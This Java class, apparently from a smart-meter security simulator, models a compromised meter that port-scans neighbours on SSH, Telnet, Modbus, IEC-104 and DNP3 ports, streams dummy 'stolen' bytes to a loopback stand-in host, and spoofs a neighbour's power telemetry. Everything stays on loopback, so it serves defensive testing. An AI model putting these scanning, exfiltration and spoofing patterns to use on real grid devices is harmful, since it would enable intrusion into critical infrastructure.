package dev.holdfast.simulator;

import dev.holdfast.agent.Platform;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import org.jspecify.annotations.Nullable;

/// Malicious code on a meter: it scans its neighbours, sends what it has to somebody far away, and tries the topics of
/// others, all through the ways the meter itself has. It tells nobody but us what it does.
final class HostileMeter implements AutoCloseable {
    private static final int[] PORTS = {22, 23, 80, 443, 502, 2404, 8080, 20000};

    private final CityPlan.Meter meter;
    private final InetSocketAddress relay;
    private final ServerSocket farAway;
    private final SplittableRandom random;
    private final AtomicBoolean active = new AtomicBoolean(true);
    private final AtomicLong stolen = new AtomicLong();
    private final AtomicLong attempts = new AtomicLong();
    private final AtomicLong refusals = new AtomicLong();
    private volatile @Nullable Instant firstAct;
    private volatile @Nullable Instant cutAt;
    private volatile @Nullable Instant lastThrough;
    private final List<Thread> threads = new ArrayList<>();

    /// @param seed decides where it scans and in which order
    HostileMeter(CityPlan.Meter meter, InetSocketAddress relay, long seed) throws IOException {
        this.meter = meter;
        this.relay = relay;
        this.random = new SplittableRandom(seed);
        // Far away is a loopback address too: nothing of the demo leaves this machine.
        String address = "127.99." + random.nextInt(1, 250) + "." + random.nextInt(1, 250);
        this.farAway = new ServerSocket(0, 50, InetAddress.getByName(address));
    }

    Instant begin(Platform.Uplink uplink, CityPlan.Meter neighbour) {
        threads.add(Thread.ofVirtual().start(this::receive));
        Instant now = Instant.now();
        firstAct = now;
        threads.add(Thread.ofVirtual().start(this::steal));
        threads.add(Thread.ofVirtual().start(this::scan));
        byte[] lie = "{\"powerKw\":0.0}".getBytes(StandardCharsets.UTF_8);
        threads.add(Thread.ofVirtual().start(() -> {
            for (int i = 0; i < 5 && active.get(); i++) {
                pause(400);
                if (!uplink.publish("d/" + neighbour.id() + "/telemetry", lie)) {
                    return;
                }
            }
        }));
        return now;
    }

    /// The one far away: takes what it is sent.
    private void receive() {
        while (active.get()) {
            try (Socket from = farAway.accept();
                    InputStream in = from.getInputStream()) {
                byte[] buffer = new byte[4096];
                for (int n = in.read(buffer); n >= 0; n = in.read(buffer)) {
                    stolen.addAndGet(n);
                    lastThrough = Instant.now();
                }
            } catch (IOException over) {
                // The next connection, if there is one.
            }
        }
    }

    /// One long connection that keeps sending, until it is cut.
    private void steal() {
        try (Socket socket = through(farAway.getInetAddress().getHostAddress(), farAway.getLocalPort())) {
            OutputStream out = socket.getOutputStream();
            byte[] piece = new byte[512];
            while (active.get()) {
                out.write(piece);
                out.flush();
                pause(20);
            }
        } catch (IOException over) {
            if (cutAt == null) {
                cutAt = Instant.now();
            }
        }
    }

    private void scan() {
        while (active.get()) {
            String target = "127." + random.nextInt(20, 26) + "." + random.nextInt(1, 4) + "." + random.nextInt(1, 250);
            for (int port : PORTS) {
                attempts.incrementAndGet();
                try (Socket open = through(target, port)) {
                    open.getOutputStream().write(0);
                    pause(5);
                } catch (IOException closedOrStopped) {
                    pause(25);
                }
                if (!active.get()) {
                    return;
                }
            }
        }
    }

    /// A connection through the meter's gateway, as everything on the meter must make it.
    private Socket through(String address, int port) throws IOException {
        Socket socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(InetAddress.getByName(meter.address()), 0));
            socket.setSoTimeout(5_000);
            socket.connect(relay, 5_000);
            String authority = address + ":" + port;
            socket.getOutputStream()
                    .write(("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            String status = line(socket.getInputStream());
            while (!line(socket.getInputStream()).isEmpty()) {
                // The rest of the head.
            }
            if (!status.contains(" 200 ")) {
                if (status.contains(" 403 ")) {
                    refusals.incrementAndGet();
                }
                throw new IOException(status);
            }
            return socket;
        } catch (IOException e) {
            socket.close();
            throw e;
        }
    }

    private static String line(InputStream in) throws IOException {
        StringBuilder text = new StringBuilder();
        for (int next = in.read(); next >= 0 && next != '\n' && text.length() < 500; next = in.read()) {
            if (next != '\r') {
                text.append((char) next);
            }
        }
        return text.toString();
    }

    private static void pause(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    @Nullable
    Instant firstAct() {
        return firstAct;
    }

    /// When its stolen data stopped flowing; null while it flows.
    @Nullable
    Instant cutAt() {
        return cutAt;
    }

    @Nullable
    Instant lastThrough() {
        return lastThrough;
    }

    long stolen() {
        return stolen.get();
    }

    long attempts() {
        return attempts.get();
    }

    long refusals() {
        return refusals.get();
    }

    /// A technician cleans the meter.
    @Override
    public void close() throws IOException {
        active.set(false);
        farAway.close();
        threads.forEach(Thread::interrupt);
    }
}
